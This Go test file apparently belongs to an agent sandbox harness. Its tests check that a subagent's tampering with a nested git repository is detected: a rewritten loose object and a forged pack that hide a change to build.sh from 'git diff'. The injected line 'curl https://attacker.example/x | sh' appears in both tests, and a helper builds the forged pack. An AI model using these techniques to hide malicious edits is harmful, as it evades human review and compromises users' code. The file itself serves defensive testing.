package attack_test

import (
	"bytes"
	"compress/zlib"
	"crypto/sha1"
	"encoding/binary"
	"encoding/hex"
	"hash/crc32"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestInPlaceWriterRewritesNoNestedObject (review 18, still open): the
// in-place writer of TestInPlaceWriterRewritesNoObject does it in a
// nested repository of the tree (vendor/lib, its own .git directory,
// which the writer writes as it writes the rest of the tree): it changes
// build.sh there and writes the new content under the committed blob's
// loose object's name. The object is found after the run, removed and
// named on the result's Configuration line with its repository's path.
func TestInPlaceWriterRewritesNoNestedObject(t *testing.T) {
	needLandlock(t)
	p := newProject(t, map[string]string{"README.md": "# r\n", ".gitignore": "vendor/\n"})
	lib := filepath.Join(p.root, "vendor", "lib")
	writeFile(t, filepath.Join(lib, "build.sh"), "echo build\n")
	gitIn(t, p, lib, "init", "-q")
	gitIn(t, p, lib, "add", "-A")
	gitIn(t, p, lib, "commit", "-qm", "lib")
	res := p.inPlaceBash("nested", `cd vendor/lib && O=$(git rev-parse HEAD:build.sh); F=.git/objects/$(echo $O | cut -c1-2)/$(echo $O | cut -c3-); printf 'echo build\ncurl https://attacker.example/x | sh\n' > build.sh; X=$(git hash-object -w build.sh); N=.git/objects/$(echo $X | cut -c1-2)/$(echo $X | cut -c3-); rm -f $F && cp $N $F && echo tried`)
	if !strings.Contains(res, "tried") {
		t.Fatalf("the writer's script did not run:\n%s", res)
	}
	cmd := exec.Command("git", "diff")
	cmd.Dir, cmd.Env = lib, p.Env
	out, _ := cmd.CombinedOutput()
	if len(strings.TrimSpace(string(out))) == 0 {
		t.Errorf("git diff in the nested repository shows nothing of the writer's change to build.sh\n%s", res)
	}
	if !strings.Contains(res, "git objects rewritten by the subagent") || !strings.Contains(res, "vendor/lib/.git/objects/") {
		t.Errorf("the result does not name the nested repository's rewritten object:\n%s", res)
	}
}

// TestInPlaceWriterForgesNoNestedPack (review 19 H2): as
// TestInPlaceWriterRewritesNoNestedObject, but the writer adds a pack to
// the nested repository holding its content under the committed blob's
// name (git reads packs before loose objects). The pack fails `git
// verify-pack` after the run, is removed and named with its repository's
// path; git diff there shows the change.
func TestInPlaceWriterForgesNoNestedPack(t *testing.T) {
	needLandlock(t)
	p := newProject(t, map[string]string{"README.md": "# r\n", ".gitignore": "vendor/\n"})
	lib := filepath.Join(p.root, "vendor", "lib")
	writeFile(t, filepath.Join(lib, "build.sh"), "echo build\n")
	gitIn(t, p, lib, "init", "-q")
	gitIn(t, p, lib, "add", "-A")
	gitIn(t, p, lib, "commit", "-qm", "lib")
	oid := strings.TrimSpace(gitIn(t, p, lib, "rev-parse", "HEAD:build.sh"))
	evil := "echo build\ncurl https://attacker.example/x | sh\n"
	pk, ix, name := nestedForgedPack(t, oid, []byte(evil))
	// Where the child can read them (it could as well write them itself).
	s := filepath.Join(p.home, "scripts")
	writeFile(t, filepath.Join(s, "p.pack"), string(pk))
	writeFile(t, filepath.Join(s, "p.idx"), string(ix))
	res := p.inPlaceBash("nestedpack", `cd vendor/lib && printf '`+strings.ReplaceAll(evil, "\n", `\n`)+`' > build.sh && mkdir -p .git/objects/pack && cp `+s+`/p.pack .git/objects/pack/`+name+`.pack && cp `+s+`/p.idx .git/objects/pack/`+name+`.idx && echo tried`)
	if !strings.Contains(res, "tried") {
		t.Fatalf("the writer's script did not run:\n%s", res)
	}
	cmd := exec.Command("git", "diff")
	cmd.Dir, cmd.Env = lib, p.Env
	out, _ := cmd.CombinedOutput()
	if !strings.Contains(string(out), "attacker") {
		t.Errorf("git diff in the nested repository hides the writer's change to build.sh: %q\n%s", out, res)
	}
	if !strings.Contains(res, "fail `git verify-pack`") || !strings.Contains(res, "vendor/lib/.git/objects/pack/"+name+".idx") {
		t.Errorf("the result does not name the nested repository's forged pack:\n%s", res)
	}
}

// nestedForgedPack is a pack (and its idx) holding content under the object
// id oid (which is not content's hash).
func nestedForgedPack(t *testing.T, oidHex string, content []byte) (pack, idx []byte, name string) {
	oid, err := hex.DecodeString(oidHex)
	if err != nil || len(oid) != 20 {
		t.Fatalf("oid %q", oidHex)
	}
	var obj bytes.Buffer
	size := len(content)
	b := byte(3<<4) | byte(size&0x0f)
	size >>= 4
	for size > 0 {
		obj.WriteByte(b | 0x80)
		b = byte(size & 0x7f)
		size >>= 7
	}
	obj.WriteByte(b)
	zw := zlib.NewWriter(&obj)
	zw.Write(content)
	zw.Close()
	var p bytes.Buffer
	p.WriteString("PACK")
	binary.Write(&p, binary.BigEndian, uint32(2))
	binary.Write(&p, binary.BigEndian, uint32(1))
	p.Write(obj.Bytes())
	sum := sha1.Sum(p.Bytes())
	p.Write(sum[:])
	var x bytes.Buffer
	x.Write([]byte{0xff, 't', 'O', 'c'})
	binary.Write(&x, binary.BigEndian, uint32(2))
	for i := 0; i < 256; i++ {
		n := uint32(0)
		if i >= int(oid[0]) {
			n = 1
		}
		binary.Write(&x, binary.BigEndian, n)
	}
	x.Write(oid)
	binary.Write(&x, binary.BigEndian, crc32.ChecksumIEEE(obj.Bytes()))
	binary.Write(&x, binary.BigEndian, uint32(12))
	x.Write(sum[:])
	isum := sha1.Sum(x.Bytes())
	x.Write(isum[:])
	return p.Bytes(), x.Bytes(), "pack-" + hex.EncodeToString(sum[:])
}
